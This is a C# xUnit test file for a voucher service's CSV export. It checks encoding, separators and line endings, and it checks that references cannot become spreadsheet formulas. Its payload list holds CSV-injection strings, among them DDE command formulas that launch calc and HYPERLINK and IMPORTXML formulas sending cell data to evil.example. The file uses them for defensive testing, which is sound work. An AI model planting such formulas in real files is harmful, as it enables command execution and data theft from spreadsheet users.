using System.Net;
using System.Text;
using VoucherFunctions.Testing;
using Xunit;

namespace VoucherFunctions.Tests.Issuers;

public sealed class CsvTests(AzuriteFixture azurite)
{
    private const string Columns = "id,code,registrationUrl,redeemableUntil,language,reference,test";

    /// <summary>What could run, link or break something in a spreadsheet (OWASP's CSV injection page and what spreadsheets take for a formula).</summary>
    private static readonly string[] Payloads =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
        " =1+1", "\u00A0=1+1", "|calc", "%0A=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "\",=1+1,\"", "a\";=1+1", ";=1+1", "a; =1+1;b", "a;\"=1+1\"", "a,+1", "x|=1", ",=1+1", "'=1+1", "\"", "\"\"", ",", "''",
    ];

    public static TheoryData<string> Texts => new("Genève, Zürich, «Ligne 2»", "Dossier 17", "ça \"va\"", "œuvre – été", "日本", "0012", "1;2", "O'Neil");

    [Fact]
    public async Task No_reference_is_a_formula_in_a_CSV_file()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);
        foreach (var reference in Payloads)
        {
            var answer = await office.IssueAsync(new { count = 1, reference }, "text/csv");

            var rows = Csv.Parse(answer.Body.TrimStart('\uFEFF'));
            Assert.Equal(Columns.Split(','), rows[0]);
            Assert.Equal(7, rows[1].Count);
            Assert.Empty(Spreadsheet.FormulasIn(answer.Body));
            Assert.Empty(Spreadsheet.FormulasIn((await office.IssueAsync(new { count = 1, reference }, "text/csv", "?separator=semicolon")).Body));
            Assert.Equal(reference.Replace("'", "", StringComparison.Ordinal), rows[1][5].Replace("'", "", StringComparison.Ordinal));
        }
    }

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task A_text_that_is_no_formula_arrives_as_it_is(string reference)
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);

        var answer = await office.IssueAsync(new { count = 1, reference }, "text/csv");

        Assert.Equal(reference, Csv.Parse(Encoding.UTF8.GetString(answer.Bytes))[1][5]);
    }

    [Theory]
    [InlineData("", true)]
    [InlineData("?bom=true", true)]
    [InlineData("?bom=false", false)]
    public async Task A_byte_order_mark_tells_spreadsheets_the_encoding_unless_it_is_not_wanted(string query, bool isThere)
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);

        var answer = await office.IssueAsync(new { count = 1, reference = "Genève" }, "text/csv", query);

        Assert.Equal(isThere, answer.Bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble));
        Assert.Equal("utf-8", answer.ContentHeaders.ContentType!.CharSet);
        Assert.Contains("Genève"u8.ToArray().AsSpan(), answer.Bytes);
    }

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task Excel_of_this_country_opens_the_file_in_columns(string reference)
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);
        var (body, key) = (new { count = 2, reference }, Guid.NewGuid().ToString());
        var batchId = (await office.IssueAsync(body, idempotencyKey: key)).Json["batchId"]!.GetValue<string>();

        foreach (var askAsync in (Func<string, Task<Answer>>[])[query => office.IssueAsync(body, "text/csv", query, key), query => office.BatchAsync(batchId, "text/csv", query)])
        {
            var semicolons = (await askAsync("?separator=semicolon")).MustBe(HttpStatusCode.OK);
            var commas = (await askAsync("")).MustBe(HttpStatusCode.OK);

            Assert.Equal(Csv.Parse(commas.Body), Csv.Parse(semicolons.Body, ';'));
            Assert.Equal(reference, Csv.Parse(semicolons.Body, ';')[1][5]);
            Assert.True(semicolons.Bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble));
            Assert.Equal(commas.ContentType, semicolons.ContentType);
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("?separator=")]
    [InlineData("?separator=comma")]
    public async Task Without_another_separator_the_file_is_byte_by_byte_what_it_was(string query)
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);
        var (body, key) = (new { count = 1, reference = "Genève; 2" }, Guid.NewGuid().ToString());
        var voucher = (await office.IssueAsync(body, idempotencyKey: key)).Json["vouchers"]![0]!;

        var answer = await office.IssueAsync(body, "text/csv", query, key);

        var (id, code) = (voucher["id"]!.GetValue<string>(), voucher["code"]!.GetValue<string>());
        var row = $"{id},{code},{voucher["registrationUrl"]},{voucher["redeemableUntil"]},fr,\"Genève; 2\",false";
        Assert.Equal([.. Encoding.UTF8.Preamble, .. Encoding.UTF8.GetBytes($"{Columns}\r\n{row}\r\n")], answer.Bytes);
        Assert.Equal("text/csv; charset=utf-8; header=present", answer.ContentHeaders.ContentType!.ToString());
    }

    [Theory]
    [InlineData(";")]
    [InlineData("%3B")]
    [InlineData("tab")]
    [InlineData("Semicolon")]
    [InlineData("semicolon,comma")]
    [InlineData("0")]
    public async Task Another_separator_is_refused_and_nothing_is_issued(string separator)
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);

        var key = Guid.NewGuid().ToString();

        var answer = (await office.IssueAsync(new { count = 1 }, "text/csv", $"?separator={separator}", key)).MustBe(HttpStatusCode.BadRequest, "invalid-request");

        Assert.Equal("invalid", answer.Json["errors"]!["separator"]![0]!.GetValue<string>());
        (await office.IssueAsync(new { count = 2 }, "text/csv", idempotencyKey: key)).MustBe(HttpStatusCode.Created);
    }

    [Fact]
    public async Task The_CSV_file_of_a_batch_tells_the_code_and_the_status_of_each_voucher()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);
        var (id, vouchers) = await office.NewBatchAsync(2);
        await office.PostAsync($"/api/vouchers/{vouchers[1].Id}/revoke");

        var answer = await office.BatchAsync(id, "text/csv", "?bom=false");

        var rows = Csv.Parse(answer.Body);
        Assert.StartsWith($"{Columns},status,", string.Join(',', rows[0]), StringComparison.Ordinal);
        Assert.Equal([vouchers[0].Code, vouchers[1].Code], rows.Skip(1).Select(row => row[1]));
        Assert.Equal(["issued", "revoked"], rows.Skip(1).Select(row => row[7]));
    }

    [Fact]
    public async Task Every_line_ends_with_CR_LF()
    {
        await using var app = await TestApp.StartAsync(azurite);
        var office = await Office.NewAsync(app);

        var answer = await office.IssueAsync(new { count = 2 }, "text/csv");

        Assert.Equal(3, answer.Body.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.EndsWith("\r\n", answer.Body, StringComparison.Ordinal);
    }
}
